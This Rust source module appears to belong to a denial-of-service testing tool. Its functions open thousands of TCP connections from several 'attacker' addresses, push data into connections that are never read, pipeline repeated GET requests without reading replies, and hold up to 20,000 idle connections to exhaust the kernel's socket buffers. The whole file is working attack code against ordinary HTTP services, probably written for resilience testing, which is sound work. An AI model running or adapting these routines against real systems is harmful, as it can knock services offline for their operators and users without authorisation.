//! Strikes at what the kernel keeps for connections: requests that are not read, and responses.

use super::Aim;
use super::connections::{attacker, crowd, crowd_narrow, tally};
use crate::client::{self, get};
use std::io::Write as _;
use std::net::TcpStream;
use std::time::{Duration, Instant};

/// Sends the first bytes on each connection, and then the others for as long as it takes some.
fn push(
    aim: &Aim,
    streams: &[TcpStream],
    first: impl Fn(usize) -> Vec<u8>,
    then: &[u8],
) -> Result<String, String> {
    for (number, mut stream) in streams.iter().enumerate() {
        let _ = stream.set_nonblocking(true);
        // One that has been closed is counted below.
        let _ = stream.write(&first(number));
    }
    let deadline = Instant::now() + aim.hold + Duration::from_secs(5);
    let mut sent = 0_usize;
    while Instant::now() < deadline {
        for mut stream in streams {
            sent += stream.write(then).unwrap_or(0);
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    let sent = sent >> 20;
    Ok(format!(
        "{} opened, {sent} MiB sent; {}",
        streams.len(),
        tally(streams)
    ))
}

pub(crate) fn send_behind(aim: &Aim) -> Result<String, String> {
    let start = |number| {
        let path = format!("/app/never/k{}", number % 900);
        get(&path, "Prefer: wait=60\r\n")
    };
    push(aim, &crowd(aim, 5_000), start, &vec![b'x'; 256 << 10])
}

pub(crate) fn unread_small(aim: &Aim) -> Result<String, String> {
    let request = get(&aim.path, "");
    let many = request.repeat(50);
    push(aim, &crowd_narrow(aim, 5_000), |_| request.clone(), &many)
}

pub(crate) fn unread_lists(aim: &Aim) -> Result<String, String> {
    let request = get(&aim.large, "");
    let many = request.repeat(50);
    push(aim, &crowd_narrow(aim, 2_000), |_| request.clone(), &many)
}

/// One after the other, and never more than a few at a time for the service: each sends small GETs of which
/// the last ends the connection, reads nothing and stays. What the kernel keeps of them counts.
pub(crate) fn never_parted(aim: &Aim) -> Result<String, String> {
    let last = get(&aim.path, "Connection: close\r\n");
    let request = [get(&aim.path, "").repeat(9), last].concat();
    let deadline = Instant::now() + aim.hold + Duration::from_secs(15);
    let mut streams = Vec::new();
    while streams.len() < 20_000 && Instant::now() < deadline {
        let from = attacker(streams.len() % 3);
        let Ok(mut stream) = client::connect_narrow(aim.address, from, Duration::from_secs(1))
        else {
            continue;
        };
        // One that is refused is counted below.
        let _ = stream.write(&request);
        streams.push(stream);
    }
    Ok(format!("{} opened; {}", streams.len(), tally(&streams)))
}
